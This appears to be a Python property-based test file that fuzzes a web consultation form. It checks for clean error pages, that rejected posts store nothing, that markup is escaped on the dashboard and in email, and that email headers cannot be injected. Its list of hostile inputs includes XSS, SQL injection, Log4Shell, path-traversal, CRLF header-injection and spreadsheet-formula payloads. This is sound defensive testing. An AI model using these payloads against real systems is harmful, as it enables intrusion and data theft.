"""Random and hostile input: every answer is a page with messages, never a server error, and a
rejected post stores nothing. Injected markup is shown as text everywhere it appears."""

from __future__ import annotations

import re

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.helpers import deliver, form_token, valid_answers

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1' --",
    "Robert'); DROP TABLE consultation_request;--",
    "\x00",
    "\r\nBcc: everyone@example.com",
    "{{ 7*7 }}{% raw %}",
    "${jndi:ldap://example.com/a}",
    "../../../../etc/passwd",
    "\u202eevil\u202c",
    '=HYPERLINK("http://evil.example")',
    "🙂" * 300,
    "9" * 400,
    "-1",
    "NaN",
    "",
    " ",
]
FIELDS = list(valid_answers().keys())
value = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=300),
    st.lists(st.sampled_from(HOSTILE + ["mon", "private", "yes"]), max_size=5),
    st.none(),
)


def post(client, path: str, answers: dict):
    data = {key: val for key, val in answers.items() if val is not None}
    data["form_token"] = form_token(client, path)
    return client.post(path, data=data)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(changes=st.dictionaries(st.sampled_from(FIELDS), value, min_size=1, max_size=len(FIELDS)))
def test_any_change_to_a_valid_request_gets_an_answer_never_a_server_error(client, stored, changes):
    before = stored()["requests"]
    for path in ("/request", "/embed/form"):
        response = post(client, path, {**valid_answers(), **changes})
        assert response.status_code in (303, 400), response.status_code
        after = stored()["requests"]
        if response.status_code == 400:
            assert after == before, "a rejected post stores nothing"
            page = response.get_data(as_text=True)
            assert 'id="error-summary"' in page
        else:
            assert after == before + 1
        before = after


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    answers=st.dictionaries(st.sampled_from(FIELDS + ["website", "csrf_token", "extra"]), value, max_size=12)
)
def test_any_post_at_all_gets_an_answer_never_a_server_error(client, stored, answers):
    before = stored()["requests"]
    response = post(client, "/request", answers)
    assert response.status_code in (303, 400)
    if response.status_code == 400:
        assert stored()["requests"] == before


def test_markup_in_every_text_answer_is_shown_as_text_on_the_dashboard_and_in_the_email(
    app, client, staff_client, smtp_server
):
    script = "<script>alert(1)</script>"
    answers = valid_answers(full_name=f"Ana {script}", message=f'{script}"><img src=x onerror=alert(2)>')
    assert post(client, "/request", answers).status_code == 303
    listing = staff_client.get("/staff/").get_data(as_text=True)
    detail_link = re.search(r'href="(/staff/requests/\d+)"', listing).group(1)
    detail = staff_client.get(detail_link).get_data(as_text=True)
    deliver(app)
    email_html = smtp_server.staff_messages[0].get_body(preferencelist=("html",)).get_content()
    for page in (listing, detail, email_html):
        assert "<script>alert" not in page and "<img src=x" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "onerror=alert(2)" in detail and "&lt;img src=x onerror=alert(2)&gt;" in detail


def test_answers_cannot_reach_the_email_headers(app, client, smtp_server):
    answers = valid_answers(full_name="Ana\r\nBcc: all@example.com\r\nSubject: hi")
    assert post(client, "/request", answers).status_code == 303
    deliver(app)
    message = smtp_server.staff_messages[0]
    assert message["Bcc"] is None
    assert message["Subject"].startswith("New request ")
    assert len(message.get_all("Subject")) == 1
